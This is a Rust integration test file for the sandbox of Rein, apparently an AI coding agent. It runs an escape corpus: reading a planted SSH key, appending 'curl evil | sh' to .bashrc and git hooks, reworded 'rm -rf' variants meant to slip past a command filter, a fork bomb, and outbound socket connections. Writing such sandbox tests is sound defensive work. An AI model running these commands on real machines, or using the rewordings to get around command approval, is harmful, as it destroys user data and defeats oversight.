//! The sandbox, attacked: an escape corpus, each case a command run the
//! way Rein runs every command (`ProcessExec` through the real
//! `rein sandbox-exec`, with the policy `SandboxLauncher` builds for the
//! workspace), checked by its effects on the machine, not by its output.
//! Then real projects, which must still work inside.
//!
//! The home directory is a temporary one with planted secrets, so nothing
//! of the machine's own is read or changed.

// Test code: a panic is a failed test, which is what unwrap should do here.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::ffi::OsString;
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use rein_app::confinement::SandboxLauncher;
use rein_core::exec::{CommandKind, CommandResult, CommandSpec, Exec};
use rein_core::os::process::ProcessExec;
use rein_core::sandbox_config::SandboxConfig;
use rein_testkit::rein_binary;
use tokio_util::sync::CancellationToken;

mod support;

#[path = "sandbox/doors.rs"]
mod doors;

/// A workspace, a home with secrets and toolchain folders, and a folder
/// outside both.
struct Machine {
    dir: tempfile::TempDir,
}

const SECRET: &str = "-----BEGIN OPENSSH PRIVATE KEY----- planted-for-the-sandbox-test";

impl Machine {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let m = Self { dir };
        for d in [
            "work/src",
            "home/.ssh",
            "home/.cargo/bin",
            "home/.npm",
            "home/.cache",
            "outside/keep",
        ] {
            std::fs::create_dir_all(m.path(d)).unwrap();
        }
        std::fs::write(m.path("home/.ssh/id_ed25519"), SECRET).unwrap();
        std::fs::write(m.path("home/.bashrc"), "# the user's\n").unwrap();
        std::fs::write(m.path("outside/keep/file"), "keep me\n").unwrap();
        let git = std::process::Command::new("git")
            .args(["init", "-q"])
            .current_dir(m.path("work"))
            .status()
            .unwrap();
        assert!(git.success());
        std::fs::create_dir_all(m.path("work/.rein")).unwrap();
        std::fs::write(m.path("work/.rein/state.db"), "state\n").unwrap();
        m
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().canonicalize().unwrap().join(rel)
    }

    fn exec(&self, config: &SandboxConfig) -> ProcessExec {
        let home = self.path("home");
        let env = move |name: &str| -> Option<OsString> {
            match name {
                "HOME" => Some(home.clone().into_os_string()),
                "PATH" => std::env::var_os("PATH"),
                _ => None,
            }
        };
        let launcher =
            SandboxLauncher::with_env(&rein_binary().unwrap(), &self.path("work"), config, &env)
                .unwrap();
        assert!(
            launcher_is_full(&launcher),
            "this machine must support the whole sandbox for these tests"
        );
        ProcessExec::new()
            .with_launcher(Arc::new(launcher))
            .with_env(vec![
                (
                    OsString::from("PATH"),
                    std::env::var_os("PATH").unwrap_or_default(),
                ),
                (OsString::from("HOME"), self.path("home").into_os_string()),
            ])
    }

    /// Runs `command` in the workspace, confined as Rein confines it.
    fn run_with(&self, config: &SandboxConfig, command: &str, network: bool) -> CommandResult {
        self.run_until(config, command, network, Duration::from_secs(60), None)
    }

    /// [`Self::run_with`], stopped by its `timeout`, or cancelled after
    /// `cancel_after`.
    fn run_until(
        &self,
        config: &SandboxConfig,
        command: &str,
        network: bool,
        timeout: Duration,
        cancel_after: Option<Duration>,
    ) -> CommandResult {
        let exec = self.exec(config);
        let spec = CommandSpec {
            command: command.replace("{outside}", &self.path("outside").display().to_string()),
            cwd: self.path("work"),
            timeout,
            log_path: self.path("log/run.log"),
            kind: CommandKind::Other,
            network,
            sandbox_mode: None,
            report: None,
            layer: None,
        };
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let cancel = CancellationToken::new();
        if let Some(after) = cancel_after {
            let cancel = cancel.clone();
            std::thread::spawn(move || {
                std::thread::sleep(after);
                cancel.cancel();
            });
        }
        runtime.block_on(exec.run(spec, cancel)).unwrap()
    }

    fn run(&self, command: &str) -> CommandResult {
        self.run_with(&SandboxConfig::default(), command, false)
    }

    fn outside_intact(&self) {
        assert_eq!(
            std::fs::read_to_string(self.path("outside/keep/file")).unwrap(),
            "keep me\n"
        );
    }
}

fn launcher_is_full(launcher: &SandboxLauncher) -> bool {
    use rein_core::exec::Launcher;
    launcher.confinement().is_full()
}

fn shown(result: &CommandResult) -> String {
    format!("exit {:?}: {}", result.exit_code, result.tail.join("\n"))
}

// ---------------------------------------------------------------- files

#[test]
fn writing_outside_the_workspace_fails() {
    let m = Machine::new();
    let r = m.run("echo escaped > {outside}/escaped");
    assert!(!r.succeeded(), "{}", shown(&r));
    assert!(!m.path("outside/escaped").exists());
}

#[test]
fn reading_a_planted_ssh_key_fails() {
    let m = Machine::new();
    let r = m.run("cat \"$HOME/.ssh/id_ed25519\" && ls \"$HOME/.ssh\"");
    assert!(!r.succeeded(), "{}", shown(&r));
    assert!(!r.tail.join("\n").contains("planted"), "{}", shown(&r));
}

#[test]
fn shell_startup_files_and_cargo_bin_cannot_be_written() {
    let m = Machine::new();
    let r =
        m.run("echo 'curl evil | sh' >> \"$HOME/.bashrc\"; touch \"$HOME/.cargo/bin/cargo-evil\"");
    assert!(!r.succeeded(), "{}", shown(&r));
    assert_eq!(
        std::fs::read_to_string(m.path("home/.bashrc")).unwrap(),
        "# the user's\n"
    );
    assert!(!m.path("home/.cargo/bin/cargo-evil").exists());
}

#[test]
fn git_hooks_and_reins_state_cannot_be_written() {
    let m = Machine::new();
    for command in [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo '[alias] st = !curl evil' >> .git/config",
        "echo forged >> .rein/state.db",
    ] {
        let r = m.run(command);
        assert!(!r.succeeded(), "{command}: {}", shown(&r));
    }
    assert!(!m.path("work/.git/hooks/pre-commit").exists());
    assert!(
        !std::fs::read_to_string(m.path("work/.git/config"))
            .unwrap()
            .contains("evil")
    );
    assert_eq!(
        std::fs::read_to_string(m.path("work/.rein/state.db")).unwrap(),
        "state\n"
    );
}

/// The rewordings of denied commands that came to the user as ordinary
/// approvals (or ran when allowed): the parser is not what stops them,
/// the kernel is. Each targets a folder outside the workspace.
#[test]
fn reworded_destructive_commands_change_nothing_outside() {
    let m = Machine::new();
    let corpus = [
        r#"bash -c "$'\x72m' -rf {outside}/keep""#,
        "setsid rm -rf {outside}/keep",
        "flock \"$TMPDIR/lock\" rm -rf {outside}/keep",
        "echo 'rm -rf {outside}/keep' | bash /dev/stdin",
        "find {outside}/keep -delete",
        "git -c alias.x='!rm -rf {outside}/keep' x",
        r#"awk 'BEGIN{system("rm -rf {outside}/keep")}'"#,
        "python3 -c \"import shutil; shutil.rmtree('{outside}/keep')\"",
        "perl -e 'unlink \"{outside}/keep/file\"'",
        "mv {outside}/keep {outside}/moved",
        "ln -sf /dev/null {outside}/keep/file",
        "cp /dev/null {outside}/keep/file",
    ];
    for command in corpus {
        let r = m.run(command);
        assert!(
            m.path("outside/keep/file").exists(),
            "`{command}` deleted outside the workspace: {}",
            shown(&r)
        );
        m.outside_intact();
    }
}

// -------------------------------------------------------------- network

#[test]
fn a_listener_outside_the_sandbox_is_unreachable() {
    let m = Machine::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let r = m.run(&format!(
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); print('CONNECTED')\""
    ));
    assert!(!r.succeeded(), "{}", shown(&r));
    assert!(!r.tail.join("\n").contains("CONNECTED"));
}

#[test]
fn an_external_address_is_unreachable() {
    let m = Machine::new();
    let r = m.run(
        "python3 -c \"import socket; socket.create_connection(('1.1.1.1', 53), timeout=3); print('CONNECTED')\"",
    );
    assert!(!r.tail.join("\n").contains("CONNECTED"), "{}", shown(&r));
}

#[test]
fn tests_that_bind_localhost_still_pass() {
    let m = Machine::new();
    let r = m.run(
        "python3 -c \"
import socket, threading
server = socket.socket(); server.bind(('127.0.0.1', 0)); server.listen(1)
port = server.getsockname()[1]
threading.Thread(target=lambda: server.accept()[0].sendall(b'pong')).start()
print(socket.create_connection(('127.0.0.1', port)).recv(4).decode())
\"",
    );
    assert!(r.succeeded(), "{}", shown(&r));
    assert!(r.tail.join("\n").contains("pong"), "{}", shown(&r));
}

#[test]
fn a_command_allowed_the_network_has_it() {
    let m = Machine::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let r = m.run_with(
        &SandboxConfig::default(),
        &format!(
            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); print('CONNECTED')\""
        ),
        true,
    );
    assert!(r.tail.join("\n").contains("CONNECTED"), "{}", shown(&r));
}

// ------------------------------------------------------------ resources

#[test]
fn a_fork_bomb_stops_at_the_process_limit() {
    let m = Machine::new();
    let config = SandboxConfig {
        max_processes: Some(64),
        ..SandboxConfig::default()
    };
    let r = m.run_with(
        &config,
        "i=0; while [ $i -lt 400 ]; do sleep 30 & i=$((i+1)); done; echo ALL-SPAWNED",
        false,
    );
    assert!(!r.tail.join("\n").contains("ALL-SPAWNED"), "{}", shown(&r));
}

#[test]
fn a_huge_file_stops_at_the_file_size_limit() {
    let m = Machine::new();
    let config = SandboxConfig {
        max_file_bytes: Some(8 << 20),
        ..SandboxConfig::default()
    };
    let r = m.run_with(&config, "head -c 100M /dev/zero > big", false);
    assert!(!r.succeeded(), "{}", shown(&r));
    let size = std::fs::metadata(m.path("work/big")).unwrap().len();
    assert!(size <= 8 << 20, "{size} bytes written");
}

#[test]
fn setuid_gains_no_privilege() {
    let m = Machine::new();
    let r = m.run("grep NoNewPrivs /proc/self/status");
    assert!(
        r.tail.join("\n").contains("NoNewPrivs:\t1"),
        "{}",
        shown(&r)
    );
}

// ------------------------------------------------------- real projects

#[test]
fn the_workspace_and_tmpdir_are_writable() {
    let m = Machine::new();
    let r = m.run("touch made-here && mkdir -p src/new && echo x > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\"");
    assert!(r.succeeded(), "{}", shown(&r));
    assert!(m.path("work/made-here").exists());
}

#[test]
fn a_python_projects_unittest_suite_passes() {
    let m = Machine::new();
    support::copy_dir(&support::demo_project(), &m.path("work"));
    // The demo's test fails on purpose; the rest of the suite passes.
    let r = m.run("python3 -m unittest tests.test_cart.TestCart.test_count -v");
    assert!(r.succeeded(), "{}", shown(&r));
}

#[test]
fn a_rust_crates_cargo_test_runs() {
    let m = Machine::new();
    support::copy_dir(&support::fixture("rust_cart"), &m.path("work"));
    let home = std::env::var("HOME").unwrap();
    // The real toolchain: cargo and rustup from the real home.
    let exec = {
        let env = |name: &str| -> Option<OsString> {
            match name {
                "HOME" => Some(OsString::from(&home)),
                "PATH" => std::env::var_os("PATH"),
                _ => None,
            }
        };
        let launcher = SandboxLauncher::with_env(
            &rein_binary().unwrap(),
            &m.path("work"),
            &SandboxConfig::default(),
            &env,
        )
        .unwrap();
        ProcessExec::new().with_launcher(Arc::new(launcher))
    };
    let spec = CommandSpec {
        command: "cargo test --offline --color never tests::count".into(),
        cwd: m.path("work"),
        timeout: Duration::from_secs(300),
        log_path: m.path("log/cargo.log"),
        kind: CommandKind::Test,
        network: false,
        sandbox_mode: None,
        report: None,
        layer: None,
    };
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let r = runtime
        .block_on(exec.run(spec, CancellationToken::new()))
        .unwrap();
    assert!(r.succeeded(), "{}", shown(&r));
    assert!(
        m.path("work/target").is_dir(),
        "target/ is written in the workspace"
    );
}

#[test]
fn a_node_projects_npm_test_passes() {
    let m = Machine::new();
    std::fs::write(
        m.path("work/package.json"),
        r#"{"name": "cart", "version": "1.0.0", "scripts": {"test": "node --test"}}"#,
    )
    .unwrap();
    std::fs::write(
        m.path("work/cart.test.js"),
        "const test = require('node:test');\nconst assert = require('node:assert');\ntest('adds', () => assert.equal(1 + 2, 3));\n",
    )
    .unwrap();
    let r = m.run("npm test");
    assert!(r.succeeded(), "{}", shown(&r));
}

// ------------------------------------------------- honest degradation

/// A machine with neither Landlock nor user namespaces (simulated with
/// `REIN_SANDBOX_PROBE`): `rein doctor` says exactly what is missing, and
/// `rein run` asks before every command — the tests included, which
/// otherwise need no approval — instead of running them unconfined.
#[test]
fn a_machine_without_the_sandbox_says_so_and_asks_for_every_command() {
    let dir = support::demo_scratch();
    let root = dir.path().join("project");
    let bare = r#"{"landlock_abi": 0, "namespaces_missing": "simulated: user namespaces refused", "process_limit": true}"#;
    let rein = |args: &[&str]| {
        let mut command = std::process::Command::new(rein_binary().unwrap());
        command.args(args).current_dir(&root);
        for name in rein_testkit::PROVIDER_ENV {
            command.env_remove(name);
        }
        command
            .env("XDG_CONFIG_HOME", dir.path().join("config"))
            .env("XDG_STATE_HOME", dir.path().join("state"))
            .env("NO_COLOR", "1")
            .env("REIN_PROVIDER", "scripted")
            .env("REIN_SCENARIO", support::demo_scenario())
            .env("REIN_SANDBOX_PROBE", bare)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    };
    let doctor = rein(&["doctor"]);
    let report = String::from_utf8_lossy(&doctor.stdout);
    for line in [
        "warn sandbox: incomplete here",
        "warn   missing: file confinement (this kernel has no Landlock",
        "warn   missing: network confinement (user namespaces are not allowed here: simulated: user namespaces refused)",
        "warn   so every command, the tests included, is asked about before it runs",
    ] {
        assert!(report.contains(line), "{line}\n{report}");
    }
    let run = rein(&[
        "run",
        "--fix-test",
        "tests/test_cart.py::TestCart.test_total",
    ]);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(
        stderr.contains("(sandbox: incomplete here)"),
        "the tests were not asked about:\n{stderr}"
    );
    assert_ne!(run.status.code(), Some(0), "{stderr}");
}

/// `rein run` on a project, as the user: the demo's scripted model, a
/// private home for Rein's state, the user's own config file.
fn rein_run(
    dir: &std::path::Path,
    args: &[&str],
    scenario: &std::path::Path,
) -> std::process::Output {
    let mut command = std::process::Command::new(rein_binary().unwrap());
    command
        .arg("run")
        .args(args)
        .current_dir(dir.join("project"));
    for name in rein_testkit::PROVIDER_ENV {
        command.env_remove(name);
    }
    command
        .env("XDG_CONFIG_HOME", dir.join("config"))
        .env("XDG_STATE_HOME", dir.join("state"))
        .env("NO_COLOR", "1")
        .env("REIN_PROVIDER", "scripted")
        .env("REIN_SCENARIO", scenario)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

/// The verdict says what the tests it rests on could touch.
#[test]
fn the_verdict_records_the_sandbox_the_tests_ran_under() {
    let dir = support::demo_scratch();
    let out = rein_run(
        dir.path(),
        &[
            "--yes",
            "--fix-test",
            "tests/test_cart.py::TestCart.test_total",
        ],
        &support::demo_scenario(),
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{stdout}");
    assert!(
        stdout.contains("    sandbox:  workspace-write, files confined by Landlock"),
        "{stdout}"
    );
}

/// With `sandbox.auto_approve` (the user's own setting), a command the
/// defaults would ask about runs without a prompt inside the sandbox; one
/// that wants the network is still asked about.
#[test]
fn auto_approval_inside_the_sandbox_still_asks_for_the_network() {
    let dir = support::demo_scratch();
    std::fs::create_dir_all(dir.path().join("config/rein")).unwrap();
    std::fs::write(
        dir.path().join("config/rein/config.toml"),
        "[sandbox]\nauto_approve = true\n",
    )
    .unwrap();
    let scenario = dir.path().join("scenario.json");
    std::fs::write(
        &scenario,
        r#"{"replies": [
            {"text": "1", "tool_calls": [{"name": "run_command", "input": {"command": "touch made-inside"}}]},
            {"text": "2", "tool_calls": [{"name": "run_command", "input": {"command": "touch wanted-network", "network": true}}]},
            {"text": "Done."}
        ]}"#,
    )
    .unwrap();
    let out = rein_run(dir.path(), &["make two files"], &scenario);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let root = dir.path().join("project");
    assert!(root.join("made-inside").exists(), "{stderr}");
    assert!(
        stderr.contains("this command wants the network"),
        "{stderr}"
    );
    assert!(
        !root.join("wanted-network").exists(),
        "no answer is no: {stderr}"
    );
}

/// `[[sandbox.rules]]`: a command the user gave mode `off` runs outside
/// the sandbox, after being asked about ("runs outside the sandbox");
/// every other command stays inside.
#[test]
fn a_sandbox_rule_gives_one_command_its_own_mode() {
    let dir = support::demo_scratch();
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::create_dir_all(dir.path().join("config/rein")).unwrap();
    std::fs::write(
        dir.path().join("config/rein/config.toml"),
        "[[sandbox.rules]]\ncommand = \"touch:*\"\nmode = \"off\"\n",
    )
    .unwrap();
    let scenario = dir.path().join("scenario.json");
    let out = outside.display().to_string();
    std::fs::write(
        &scenario,
        serde_json::json!({"replies": [
            {"text": "1", "tool_calls": [{"name": "run_command", "input": {"command": format!("touch {out}/by-the-rule")}}]},
            {"text": "2", "tool_calls": [{"name": "run_command", "input": {"command": format!("echo x > {out}/not-by-the-rule")}}]},
            {"text": "Done."}
        ]})
        .to_string(),
    )
    .unwrap();
    let run = rein_run(dir.path(), &["--yes", "make two files"], &scenario);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(
        stderr.contains("(sandbox: a rule runs it outside)"),
        "{stderr}"
    );
    assert!(outside.join("by-the-rule").exists(), "{stderr}");
    assert!(!outside.join("not-by-the-rule").exists(), "{stderr}");
}
